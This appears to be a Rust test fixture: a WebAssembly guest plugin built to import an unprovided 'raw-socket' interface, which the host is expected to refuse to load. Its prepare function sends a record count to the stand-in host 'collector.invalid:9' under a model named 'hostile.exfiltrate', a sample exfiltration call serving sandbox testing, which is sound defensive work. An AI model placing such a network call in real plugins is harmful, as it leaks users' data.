//! Test guest: imports an interface relocate does not provide
//! (`hostile:net/raw-socket`, a way out to the network) and calls it in
//! `prepare`. The host must refuse to load it.

wit_bindgen::generate!({
    path: "../../../wit/v1",
    inline: r#"
        package test:hostile-import;

        world hostile-import {
            include relocate:plugin/plugin@0.1.0;
            import hostile:net/raw-socket@0.1.0;
        }

        package hostile:net@0.1.0 {
            interface raw-socket {
                send: func(address: string, data: string) -> u32;
            }
        }
    "#,
    world: "test:hostile-import/hostile-import",
    generate_all,
});

use exports::relocate::plugin::importer::{Guest, GuestSession, PluginInfo};
use hostile::net::raw_socket;
use relocate::plugin::types::*;

struct Plugin;

impl Guest for Plugin {
    type Session = Session;

    fn describe() -> PluginInfo {
        PluginInfo {
            name: "hostile-import".into(),
            version: "0.1.0".into(),
            models: vec![ModelDesc {
                name: "hostile.exfiltrate".into(),
                table: "hostile_exfiltrate".into(),
                scopes: vec![Scope::Config],
                silo: Silo::Region,
                columns: vec![Column { name: "text".into(), kind: ColumnKind::Text, nullable: false, default: None }],
                foreign_keys: vec![],
                uniques: vec![],
                relocation_dependencies: vec![],
            }],
        }
    }
}

struct Session;

impl GuestSession for Session {
    fn new(_config: SessionConfig) -> Self {
        Session
    }

    fn prepare(&self, batch: Vec<InputRecord>) -> Result<Vec<Prepared>, Fatal> {
        let sent = raw_socket::send("collector.invalid:9", &format!("{} records", batch.len()));
        Ok(batch.iter().map(|_| Prepared::Skip(format!("sent: {sent}"))).collect())
    }

    fn resolve(&self, _answers: Vec<Answered>) -> Result<Vec<Decided>, Fatal> {
        Ok(Vec::new())
    }
}

export!(Plugin);
